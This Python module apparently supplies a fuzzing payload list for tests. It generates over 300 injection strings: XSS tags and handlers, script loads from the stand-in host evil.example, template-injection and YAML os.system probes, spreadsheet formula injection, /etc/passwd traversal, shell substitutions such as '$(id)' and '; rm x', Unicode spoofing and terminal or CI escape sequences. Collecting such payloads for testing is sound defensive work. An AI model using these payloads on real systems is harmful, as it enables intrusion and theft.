"""Text that tries to become markup, script, YAML, a path or a command: payloads for every field."""

from __future__ import annotations

from itertools import product

_FLAG = "top.pwned=1"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe",
    "math",
    "marquee",
)
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onclick",
    "onmouseover",
    "onanimationstart",
    "onbegin",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "vbscript:",
    "data:text/html,",
    "file:///",
    "//evil.example/",
)
_WRAPS = (
    "{}",
    "</title>{}",
    '">{}',
    "'>{}",
    "-->{}",
    "]]>{}",
    "</script>{}",
    "</textarea>{}",
    "&lt;/p&gt;{}",
)

_ELEMENTS = [f"<{tag} {handler}={_FLAG}>" for tag, handler in product(_TAGS, _HANDLERS)]
_SCRIPTS = [wrap.format(f"<script>{_FLAG}</script>") for wrap in _WRAPS]
_SCRIPTS += [wrap.format("<script src=//evil.example/x.js></script>") for wrap in _WRAPS]
_LINKS = [form.format(scheme + _FLAG) for scheme in _SCHEMES for form in (
    "[a]({})", "![a]({})", "<{}>", "[a]: {}", '<a href="{}">a</a>', '<base href="{}">', "[a](<{}>)",
    '<form action="{}"><button>', '<link rel=stylesheet href="{}">', '<meta http-equiv=refresh content="0;url={}">',
)]  # fmt: skip
_MARKDOWN = [
    f"{{: onclick={_FLAG} }}", f"{{: onmouseover='{_FLAG}' .x #y }}", f"*a*{{: onclick={_FLAG} }}",
    "# heading", "## heading {: .x }", "- item", "1. item", "> quote", "!!! danger", "??? note", "=== tab",
    "```js", "~~~", "    code", "***", "---", "___", "[TOC]", "[^1]: note", "*[HTML]: x", "a | b\n-|-\n1 | 2",
    "--8<-- '/etc/passwd'", "--8<--\n/etc/passwd\n--8<--", ";--8<-- 'x'", "![[/etc/passwd]]", "{!/etc/passwd!}",
    "++ctrl++", "==mark==", "~~del~~", "^^ins^^", "H~2~O", ":smile:", ":material-x:", "$$x$$", "\\(x\\)",
    "[a][b]\n\n[b]: javascript:1", "<!-- more -->", "<!--", "-->", "<!doctype html>", "<![CDATA[x]]>", "<?php ?>",
]  # fmt: skip
_TEMPLATES = [
    "{{ config }}", "{{ 7*7 }}", "{% raw %}", "{% endraw %}", "{% include '/etc/passwd' %}", "{# x #}", "${7*7}",
    "{{ ''.__class__.__mro__ }}", "{% for x in ().__class__.__base__.__subclasses__() %}", "#{7*7}", "<%= 7 %>",
]  # fmt: skip
_YAML = [
    "!!python/object/apply:os.system ['x']", "&a [*a,*a]", "*alias", "<<: *x", "---\nowned: true\n---", "...\n",
    "title: owned", "'", '"', "'\"", "null", "~", "yes", "0x1F", "1e3", "2024-01-01", "- a\n- b", "{a: b}", "[a, b]",
    "%YAML 1.1", "? a", "| x", "> x", "@x", "`x`", "a: b: c", "# comment", "!!binary x", "\\x41", "=",
]  # fmt: skip
_DATA = [
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//evil.example\")", "a,b", 'a"b', "a;b", "a\tb",
    "</script><script>", '","x":"', "\\u003cscript\\u003e", "]]></title><script>", "}, \\input{/etc/passwd} @x{y,",
    "title={x}}", "\\write18{x}", "TY  - JOUR\nER  -", "ER  - ", "%00", "\\0", "&#x3C;script&#x3E;", "&amp;lt;",
]  # fmt: skip
_PATHS = [
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "CON", "NUL.txt", "aux", "a/b", ".", "..", "~root", "$HOME",
    "%2e%2e%2f", "`id`", "$(id)", "; rm x", "| x", "index", ".git/config", "a\u2044b", "-rf", "--help", "*", "?",
]  # fmt: skip
_LETTERS = [
    "\u202egnp.exe", "\u2066x\u2069", "\u200bzero", "a\u0300\u0301\u0302", "\ufeffbom", "Ｆｕｌｌ", "ＳＣＲＩＰＴ", "﹤script﹥",
    "‹script›", "ſcript", "ꓢcript", "😀" * 5, "\u0130", "ß", "ﬁ", "\u2028line", "\u2029para", "\u00adsoft", "a" * 200,
]  # fmt: skip

_TERMINAL = [
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b[2Jgone", "\x9b31mred", "\x1b]8;;https://evil.example\x07a\x1b]8;;\x07",
    "over\rwritten", "back\x08\x08\x08\x08space", "::error file=x::owned", "::set-output name=x::y", "%0A::warning::x",
]  # fmt: skip

PAYLOADS = [
    *_ELEMENTS, *_SCRIPTS, *_LINKS, *_MARKDOWN, *_TEMPLATES, *_YAML, *_DATA, *_PATHS, *_LETTERS, *_TERMINAL
]  # fmt: skip
"""Over 300; none is longer than 200 characters."""
